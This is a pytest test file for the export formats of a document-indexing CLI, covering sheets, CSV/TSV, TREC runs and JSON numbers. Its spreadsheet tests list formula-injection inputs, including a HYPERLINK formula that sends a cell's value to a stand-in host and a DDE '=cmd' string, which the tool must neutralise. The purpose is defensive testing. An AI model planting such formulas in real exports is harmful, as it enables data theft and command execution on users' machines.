"""What other programs make of our output: sheets, spreadsheets, TREC tools, JSON readers."""

from __future__ import annotations

import csv
import io
import json
import math
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from conftest import corpus, gangmu
from gangmu.cli import cells, formats, output
from gangmu.cli.machine import csv_line
from gangmu.cli.terminal import UNSAFE
from gangmu.index.errors import UsageError
from gangmu.index.query import parser
from hypothesis import given
from hypothesis import strategies as st

openpyxl = pytest.importorskip("openpyxl")

ANYTHING = st.text(st.characters(codec=None), max_size=60)
ILLEGAL = ["\0", "\x01", "\x0b", "\x1b", "\x7f", "\x9f", "\ufffe", "\uffff", "\ud800", "\udfff", "\udc80", "\r"]


def written(path: Path, form: str, records: Iterable[dict[str, Any]], columns: Sequence[str]) -> int:
    with path.open("wb") as out:
        return formats.write(out, form, records, columns)


def units(text: str) -> int:
    return len(text.encode("utf-16-le", "surrogatepass")) // 2


def read(path: Path) -> dict[str, list[list[Any]]]:
    book = openpyxl.load_workbook(path)
    return {sheet.title: [[c.value for c in row] for row in sheet.iter_rows()] for sheet in book}


# Sheets


@pytest.mark.parametrize("character", ILLEGAL, ids=lambda c: f"U+{ord(c):04X}")
def test_a_sheet_takes_every_character(character: str, tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    assert written(path, ".xlsx", [{"title": f"甲{character}乙", "n": 3}], ("title", "n")) == 1
    ((_, row),) = read(path).values()
    assert row == [f"甲{cells_escape(character)}乙", 3]


def cells_escape(character: str) -> str:
    code = ord(character)
    return f"\\x{code:02x}" if code < 256 else f"\\u{code:04x}"


@given(ANYTHING)
def test_no_text_is_refused_by_xml_or_read_as_an_escape(text: str) -> None:
    from openpyxl.utils.escape import unescape

    shown = formats.xml_text(text)
    assert all(c in "\t\n" or "\x20" <= c <= "\ud7ff" or "\ue000" <= c <= "\ufffd" or c >= "\U00010000" for c in shown)
    assert unescape(shown) == formats._NOT_XML.sub(lambda m: f"\\u{ord(m[0]):04x}", output.harmless(text))


@given(st.text(st.sampled_from("a中𠀀😀"), max_size=40), st.integers(8, 30))
def test_a_cell_is_counted_in_utf_16_and_no_pair_is_divided(text: str, most: int) -> None:
    shown = formats.fitting(text, most)
    assert units(shown) <= most
    if units(text) <= most:
        assert shown == text
    else:
        assert shown.endswith(formats.CUT)
        kept = shown.removesuffix(formats.CUT)
        assert text.startswith(kept)
        assert units(shown) >= most - 1


def test_cells_that_had_to_be_cut_are_told_by_column(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    long, fits = "𠀀" * 20_000, "𠀀" * 16_383 + "甲"
    rows = [{"a": long, "b": fits}, {"a": long, "b": "x" * 32_768}, {"a": "short", "b": None}]
    written(tmp_path / "a.xlsx", ".xlsx", rows, ("a", "b"))
    ((_, first, second, third),) = read(tmp_path / "a.xlsx").values()
    assert first[1] == fits
    assert [units(value) for value in (first[0], second[1])] == [32_766, 32_767]  # no room for half a pair
    assert first[0].endswith("𠀀…[cut]")
    assert third[0] == "short"
    said = capsys.readouterr().err
    assert "2 cells of the column a are longer" in said
    assert "1 cell of the column b is longer" in said


def test_rows_beyond_one_sheet_go_on_in_the_next(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(formats, "ROWS", 4)
    assert written(tmp_path / "a.xlsx", ".xlsx", ({"n": n} for n in range(7)), ("n",)) == 7
    found = read(tmp_path / "a.xlsx")
    assert found == {
        "gangmu": [["n"], [0], [1], [2]], "gangmu 2": [["n"], [3], [4], [5]], "gangmu 3": [["n"], [6]],
    }  # fmt: skip
    written(tmp_path / "b.xlsx", ".xlsx", [], ("n",))
    assert read(tmp_path / "b.xlsx") == {"gangmu": [["n"]]}


def test_a_number_that_a_sheet_would_round_is_text(tmp_path: Path) -> None:
    rows = [{"n": n} for n in (1234567890123456789, -1234567890123456789, 10**25, 0.5, -3, True)]
    written(tmp_path / "a.xlsx", ".xlsx", rows, ("n",))
    ((_, *found),) = read(tmp_path / "a.xlsx").values()
    assert found == [["1234567890123456789"], ["-1234567890123456789"], [1e25], [0.5], [-3], ["true"]]


def test_a_formula_in_a_sheet_is_text(tmp_path: Path) -> None:
    written(tmp_path / "a.xlsx", ".xlsx", [{"a": "=1+1"}], ("a",))
    cell = openpyxl.load_workbook(tmp_path / "a.xlsx").active["A2"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")


@pytest.mark.parametrize("suffix", formats.SUFFIXES)
def test_a_document_of_strange_characters_can_be_exported(tmp_path: Path, suffix: str) -> None:
    if suffix == ".parquet":
        pytest.importorskip("pyarrow")
    strange = "\ufffe\uffff_x0041_=1+1\U0001fffe"
    folder = corpus(
        tmp_path / "c", {"id": "a", "title": f"通知{strange}", "tags": [f"标签{strange}"], "source": strange,
                         "text": f"武汉市{strange}到2027年,产业规模突破300亿元。{'𠀀' * 40_000}"}
    )  # fmt: skip
    assert gangmu("-C", folder, "build").status == 0
    for what in ("documents", "targets", "tags", "clusters"):
        to = tmp_path / f"{what}{suffix}"
        done = gangmu("-C", folder, "export", "--what", what, "--to", to)
        assert done.status == 0, done.err
        assert to.stat().st_size or (what, suffix) == ("clusters", ".jsonl")
        told = suffix == ".xlsx" and what == "documents"
        assert ("1 cell of the column text" in done.err) == told


def test_half_a_pair_is_an_escape_in_parquet(tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    written(tmp_path / "a.parquet", ".parquet", [{"title": "a\ud800", "tags": ["b\udc80"]}], ("title", "tags"))
    assert pq.read_table(tmp_path / "a.parquet").to_pylist() == [{"title": "a\\ud800", "tags": ["b\\udc80"]}]


# Spreadsheets

RUNNING = [
    "=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠a", "﹦1", " =1", "\u3000=1", "\ufeff=1",
    '"=1', "'=1", '"x', "a;=1", "a,=1", "a\n=1", "a\t=1", "a; =1", "a\r\n@x",
    '=HYPERLINK("http://e/?"&A1,"x")', "=cmd|'/c x'!A0",
]  # fmt: skip
PLAIN = ["产业=1", "a-b", "增长-5%", "1+1", "a@b.cn", "", "武汉", "《a》=b", "a，=1"]


def rows_of(text: str, form: str) -> list[list[str]]:
    """The cells as a program reads them, in both ways for a form that has two."""
    if form == "csv":
        return list(csv.reader(io.StringIO(text)))
    return [line.split("\t") for line in text.splitlines()]


@pytest.mark.parametrize("text", RUNNING, ids=ascii)
def test_no_cell_begins_a_formula(text: str) -> None:
    shown = cells.safe(text)
    assert shown != text
    for separator in (";", ",", "\t", "\n", "\r"):
        for piece in shown.split(separator):
            assert not piece.lstrip(" \u3000\ufeff\"").startswith(tuple("=+-@＝＋－＠﹦")), (separator, piece)  # fmt: skip


@pytest.mark.parametrize("text", PLAIN, ids=ascii)
def test_a_cell_that_runs_nothing_stays_as_it_is(text: str) -> None:
    assert cells.safe(text) == text


@pytest.mark.parametrize(
    ("value", "shown"), [(-13.5, "-13.5"), (-3, "-3"), (None, ""), (True, "true"), (["-a"], "'-a")]
)
def test_numbers_stay_numbers(value: Any, shown: str) -> None:
    assert cells.safe(value) == shown


@pytest.fixture(scope="module")
def risky(tmp_path_factory: pytest.TempPathFactory) -> Path:
    docs = [
        {"id": f"d{n}", "title": text, "source": text, "tags": [text], "date": "2024-01-02", "region": "武汉市",
         "text": f"{text}\n武汉市发布产业方案。\n到2027年,{text}产业规模突破{n + 3}00亿元。"}
        for n, text in enumerate(RUNNING)
    ]  # fmt: skip
    folder = corpus(tmp_path_factory.mktemp("risky") / "c", *docs)
    assert gangmu("-C", folder, "build").status == 0
    return folder


COMMANDS = [
    ["search", "产业", "-n", "99"], ["targets", "--kind", "all"], ["tag", "list"], ["regions"], ["dedup"], ["timeline"],
    ["map"], ["export", "--what", "documents"], ["export", "--what", "targets"], ["export", "--what", "tags"], ["status"],
    ["search", "产业", "--facets"], ["show", "docs.jsonl#d0"], ["doctor"], ["build", "--dry-run"],
    ["changes", "--kind", "all"], ["export", "--what", "changes"],
]  # fmt: skip


def starts(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row if c.lstrip(' "\u3000\ufeff').startswith(tuple("=+@＝＋－＠﹦\t\r"))]


@pytest.mark.parametrize("form", ["csv", "tsv"])
@pytest.mark.parametrize("args", COMMANDS, ids=" ".join)
def test_no_command_prints_a_cell_that_runs_with_safe_cells(risky: Path, args: list[str], form: str) -> None:
    for line in (["--safe-cells", *args], [*args, "--safe-cells"]):
        done = gangmu("-C", risky, "-f", form, *line)
        assert done.status in (0, 1), done.err
        assert starts(rows_of(done.out, form)) == []


def test_cells_are_exact_without_the_option(risky: Path) -> None:
    done = gangmu("-C", risky, "-f", "csv", "export", "--what", "documents")
    assert len(starts(rows_of(done.out, "csv"))) > 20


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_files_have_safe_cells_too(risky: Path, suffix: str, tmp_path: Path) -> None:
    to = tmp_path / f"a{suffix}"
    assert gangmu("-C", risky, "export", "--what", "documents", "--to", to, "--safe-cells").status == 0
    with to.open(encoding="utf-8", newline="") as file:
        assert starts(rows_of(file.read(), suffix[1:])) == []
    assert gangmu("-C", risky, "export", "--what", "documents", "--to", to).status == 0
    with to.open(encoding="utf-8", newline="") as file:
        assert starts(rows_of(file.read(), suffix[1:]))


# Runs


@given(ANYTHING)
def test_an_id_in_a_run_is_one_word_that_acts_on_nothing_and_can_be_read_back(text: str) -> None:
    shown = cells.word(text)
    assert shown.split() == [shown]
    assert not UNSAFE.search(shown)
    if not any(0xD800 <= ord(c) < 0xE000 for c in text):
        assert unquote(shown) == (text or "%")


@given(ANYTHING, ANYTHING)
def test_two_ids_are_two_words(one: str, other: str) -> None:
    assert (cells.word(one) == cells.word(other)) == (one == other)


def test_a_stray_byte_of_a_file_name_is_that_byte_in_a_run() -> None:
    assert cells.word("中\udcd6.txt") == "中%D6.txt"
    assert cells.word("北京 政策.txt#1") == "北京%20政策.txt#1"


def test_a_run_has_six_columns_whatever_documents_and_queries_are_called(tmp_path: Path) -> None:
    folder = tmp_path / "c"
    folder.mkdir()
    names = ["a b.txt", "甲　乙.txt", "50%.txt", "50%25.txt", "plain.txt"]
    for name in names:
        (folder / name).write_text("武汉市召开产业大会。", encoding="utf-8")
    (folder / "INDEX.md").write_text('---\ninclude: ["*.txt"]\n---\n', encoding="utf-8")
    assert gangmu("-C", folder, "build").status == 0
    (tmp_path / "q.tsv").write_text("q 1\t产业\nq\x1b]0;x\x07\t大会\n", encoding="utf-8")
    done = gangmu("-C", folder, "search", "--queries", tmp_path / "q.tsv", "-f", "trec")
    assert done.status == 0
    lines = [line.split(" ") for line in done.out.splitlines()]
    assert len(lines) == 2 * len(names)
    assert {len(line) for line in lines} == {6}
    assert {unquote(line[2]) for line in lines} == set(names)
    assert {line[0] for line in lines} == {"q%201", "q%1B]0;x%07"}


@pytest.mark.parametrize(
    "args", [["search", "产业"], ["targets"], ["status"], ["export"], ["tag", "list"], ["show", "a"]], ids=" ".join
)
def test_other_commands_have_no_run(args: list[str], risky: Path) -> None:
    done = gangmu("-C", risky, *args, "-f", "trec")
    assert (done.status, done.out) == (2, "")
    assert "--queries" in done.err


# Numbers


@pytest.mark.parametrize("value", [math.inf, -math.inf, math.nan])
def test_what_is_no_number_is_never_printed(value: float) -> None:
    for write in (output.dumps, output.pretty, output.cell, cells.safe):
        with pytest.raises(ValueError):
            write(value)
    for write in (output.dumps, output.pretty, output.cell):
        with pytest.raises(ValueError):
            write([{"a": [value]}])
    with pytest.raises(ValueError):
        cells.run_line({"qid": "1", "doc": "a", "rank": 1, "score": value})


@pytest.mark.parametrize(
    "query",
    ["中国^" + "9" * 400, "中国^1001", '"中国"^1e9'.replace("1e9", "9" * 20), "(中国 产业)^9999", "title:中国^1000.5",
     "产*^2000", "中国~2^2000", "中国^٩٩٩٩", "a^2 b^9999", "region:武汉^99999", "[2023 TO 2024]^99999", "中国^9999 产业"],
    ids=lambda q: q[:20],
)  # fmt: skip
def test_a_boost_beyond_measure_is_refused_in_words(query: str) -> None:
    with pytest.raises(UsageError, match="a boost is at most 1000"):
        parser.check(query)


@pytest.mark.parametrize(
    "query", ["中国^1000", "中国^0.5", "中国^2 产业^3.25", "中国^", "x^2y", "a^99999y", '"中国^99999"', "中国^.5"]
)
def test_a_boost_within_measure_is_not(query: str) -> None:
    parser.check(query)


@pytest.mark.parametrize(
    "query",
    ["中国^" + "9" * 400, "(" * 39 + "产业" + "^1000)" * 39 + "^1000", "产业^0." + "0" * 400 + "1", "产业 大会 方案^1000",
     '"产业"^1000', "region:武汉^1000"],
    ids=lambda q: q[:20],
)  # fmt: skip
def test_json_has_finite_numbers_whatever_is_asked(risky: Path, query: str) -> None:
    def strict(token: str) -> None:
        raise AssertionError(token)

    for more in ([], ["--explain"], ["--unique"]):
        done = gangmu("-C", risky, "search", query, "-f", "jsonl", *more)
        assert done.status in (0, 2), done.err
        for line in done.out.splitlines():
            assert math.isfinite(json.loads(line, parse_constant=strict)["score"])


def test_digits_of_large_figures_are_kept_in_cells() -> None:
    assert output.cell(12345678901.5) == "12345678901.5"
    assert output.cell(5.273912345678) == "5.273912346"


@given(st.lists(st.lists(st.text('ab,"\r\n\t \x1b\u2028零', max_size=6), min_size=2, max_size=2), max_size=5))
def test_readers_of_csv_give_back_what_was_written(rows: list[list[str]]) -> None:
    assert list(csv.reader(io.StringIO("".join(map(csv_line, rows)), newline=""), strict=True)) == rows


@pytest.mark.parametrize(
    ("fields", "line"),
    [([""], '""\n'), (["", ""], ",\n"), (["a\0b", "c"], "a\0b,c\n"), (["a\rb", "c"], '"a\rb",c\n'), (['"'], '""""\n')],
)
def test_a_line_of_csv_is_the_same_on_every_python(fields: list[str], line: str) -> None:
    assert csv_line(fields) == line
